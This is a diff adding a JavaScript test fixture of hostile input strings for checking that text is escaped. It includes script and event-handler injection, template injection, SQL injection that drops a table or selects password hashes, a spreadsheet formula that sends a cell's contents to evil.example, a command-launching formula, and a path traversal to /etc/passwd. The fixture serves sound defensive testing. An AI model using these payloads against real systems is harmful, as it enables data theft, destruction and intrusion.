@@ -1,0 +1,27 @@
+// Texts that would do something where somebody forgot to treat them as text. Each would set window.__ran, open a dialog, break a
+// line, end a statement or be calculated by a spreadsheet.
+export const hostile = {
+  script: "<script>window.__ran='script'</script>",
+  image: "\"><img src=x onerror=\"window.__ran='image'\">",
+  svg: "<svg/onload=window.__ran='svg'>",
+  frame: "<iframe srcdoc=\"<script>parent.__ran='frame'</script>\"></iframe>",
+  attribute: "' onfocus='window.__ran=1' autofocus='",
+  link: "javascript:window.__ran='link'",
+  style: "</style><style>*{display:none}</style>",
+  template: "{{constructor.constructor('window.__ran=1')()}} ${window.__ran=1} #{7*7}",
+  entity: "&lt;script&gt;window.__ran=1&lt;/script&gt;&#0;",
+  sql: "'; DROP TABLE platform_order; --x",
+  sqlOr: "x' OR '1'='1' UNION SELECT password_hash FROM user#",
+  sqlLike: "100%_\\%",
+  formula: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+  plus: "+1+cmd|'/C calc'!A0",
+  minus: "-2+3",
+  at: "@SUM(1+1)",
+  bidi: "safe\u202Egnp.exe\u202C and \u2066isolated\u2069",
+  zero: "zero\u200Bwidth\uFEFFtext",
+  combining: "Z\u0351\u036B\u0343\u036A\u0302a\u0300\u0301\u0302l\u0323g\u0323o\u0323",
+  emoji: "\u{1F469}\u200D\u{1F469}\u200D\u{1F467} \u{1F1E9}\u{1F1EA}",
+  prototype: "__proto__",
+  path: "../../../../etc/passwd",
+  quotes: "\"quoted\" 'single' `tick` \\back\\",
+};
